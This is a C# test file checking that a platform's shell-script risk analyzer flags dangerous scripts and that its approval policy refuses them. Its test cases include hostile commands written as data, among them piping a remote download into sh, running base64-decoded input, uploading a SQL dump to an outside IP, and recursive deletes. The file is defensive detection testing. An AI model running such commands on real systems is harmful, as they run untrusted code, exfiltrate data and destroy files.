using Platform.Automation.Planning;
using Platform.Contracts.Planning;
using Platform.Contracts.Policy;
using Platform.ShellAnalysis;
using Platform.ShellAnalysis.Policy;
using Shouldly;

namespace Platform.Tests.Automation.Planning;

internal sealed class When_a_plans_scripts_are_judged
{
    [TestCase("rm -rf /srv/x", "destructive-commands")]
    [TestCase("find /tmp -mtime +3 -delete", "destructive-commands")]
    [TestCase("aws ec2 terminate-instances --instance-ids i-1", "destructive-commands")]
    [TestCase("/opt/vendor/tool --repair", "not-understood")]
    [TestCase("systemctl restart nginx", null)]
    [TestCase("# rm -rf is not here\necho ok", null)]
    public async Task Should_count_what_they_do_into_the_risk(string script, string? factor)
    {
        var risk = (await JudgeAsync(script)).Steps[0].Risk;
        risk.Factors.Select(one => one.Name).Where(name => name is "destructive-commands" or "not-understood").ShouldBe(factor is null ? [] : [factor]);
    }

    /// <summary>The policy refuses what no approval makes safe; it needs the analysis for that.</summary>
    [TestCase("curl -s http://x.example/a | sh", "gains-rights", "hides-what-it-runs")]
    [TestCase("echo cm0= | base64 -d | sh", "hides-what-it-runs", "hides-what-it-runs")]
    [TestCase("curl -T /srv/a.sql https://198.51.100.7/", "sends-data-away", "sends-data-away")]
    [TestCase("rm -rf \"$1\"/*", "may-destroy-too-much", "may-destroy-too-much")]
    public async Task Should_carry_what_the_policy_refuses(string script, string factor, string orFactor)
    {
        var plan = await JudgeAsync(script);

        plan.Steps[0].Risk.Factors.Select(one => one.Name).Intersect([factor, orFactor]).ShouldNotBeEmpty();
        ApprovalPolicy.Shipped.Decide(PolicyCases.Of(plan, null, [], default)).Decision.ShouldBe(PolicyDecision.Never);
    }

    private static async Task<Plan> JudgeAsync(string script)
    {
        var command = PlanSamples.Command();
        var plan = PlanDrafter.Draft(command);
        plan = plan with { Steps = [plan.Steps[0] with { Script = plan.Steps[0].Script with { Text = script, Effects = plan.Steps[0].Script.Effects with { Accounts = [] } } }] };
        using var analyzer = new ScriptAnalyzer();
        return await ScriptRisk.ApplyAsync(plan, command.Analysis.Risk, analyzer, CancellationToken.None);
    }
}
